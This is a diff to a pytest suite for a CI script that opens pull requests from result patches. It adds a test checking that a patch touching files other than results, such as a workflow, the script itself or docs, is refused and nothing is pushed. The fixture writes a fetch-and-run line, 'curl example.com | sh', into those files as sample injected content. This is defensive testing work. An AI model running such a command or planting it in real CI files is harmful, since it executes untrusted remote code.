@@ -226,9 +226,12 @@ def pack_and_forget(repository: Path, github: GitHub) -> None:
     (repository / "reports/summary.png").unlink()
 
 
-def open_pr(repository: Path, github: GitHub, **variables: str) -> str:
+def open_pr(repository: Path, github: GitHub, returncode: int = 0, **variables: str) -> str:
+    results = re.search(r"^RESULTS = (.*)$", (ROOT / "Makefile").read_text("utf-8"), re.MULTILINE)
+    assert results
+    variables |= {"RESULTS": results[1]}  # as `make open-pr` sets it
     done = run(repository, github, "bash", ROOT / "ci/open_pr.sh", **variables)
-    assert done.returncode == 0, done.stderr
+    assert done.returncode == returncode, done.stderr
     return done.stdout
 
 
@@ -253,6 +256,24 @@ def test_new_results_and_nothing_else_come_back_as_one_pull_request(
     git(repository, "reset", "--hard", "main~1")
     open_pr(repository, github)
     assert len(github.pulls) == 1
+
+
+@pytest.mark.parametrize("path", [".github/workflows/ci.yml", "ci/open_pr.sh", "docs/deploy.md"])
+def test_a_patch_that_changes_more_than_results_is_refused(
+    path: str, repository: Path, github: GitHub
+) -> None:
+    (repository / path).parent.mkdir(parents=True, exist_ok=True)
+    (repository / path).write_text("run: curl example.com | sh\n", encoding="utf-8")
+    git(repository, "add", path, "dvc.lock")
+    (repository / "build").mkdir()
+    patch = git(repository, "diff", "--cached", "--binary")
+    (repository / "build/results.patch").write_text(patch, encoding="utf-8")
+    git(repository, "reset", "--hard")
+    output = open_pr(repository, github, returncode=1)
+    assert f"::error::The patch changes what is no result, so nothing is pushed: {path}" in output
+    assert "results/newest" not in git(repository, "ls-remote", "origin")
+    assert not (repository / path).exists()
+    assert github.pulls == []
 
 
 def test_a_run_by_hand_has_a_branch_of_its_own(repository: Path, github: GitHub) -> None:
